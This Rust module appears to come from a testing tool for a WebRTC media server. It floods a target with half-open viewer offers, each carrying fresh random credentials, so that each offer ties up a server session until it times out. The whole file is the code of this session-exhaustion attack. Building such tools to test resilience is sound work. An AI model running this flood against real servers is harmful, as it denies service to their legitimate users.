//! Offers of viewers who then make no check: each holds a session of the server until it is given up.

use media_core::internals::ice::random_credentials;

use super::peer::{Role, offer};
use super::requests::{Requests, repeated};
use super::{AttackError, Target};

pub(super) fn start(target: &Target) -> Result<Requests, AttackError> {
    posts("half-open", target, Role::Viewer, vec![target.watched()?])
}

/// Posts offers to these URLs by turns, with fresh credentials.
pub(super) fn posts(name: &str, target: &Target, role: Role, urls: Vec<String>) -> Result<Requests, AttackError> {
    let (identity, token, mut turn) = (target.identity.clone(), target.token.clone(), 0_usize);
    repeated(name, target, move |client| {
        let (sdp, _) = offer(&identity, &random_credentials(), role).ok()?;
        turn += 1;
        let url = &urls[turn % urls.len()];
        let length = sdp.len();
        let mut request = client.post(url).header("content-type", "application/sdp").body(sdp);
        if let Some(token) = &token {
            request = request.bearer_auth(token);
        }
        Some((request, length))
    })
}
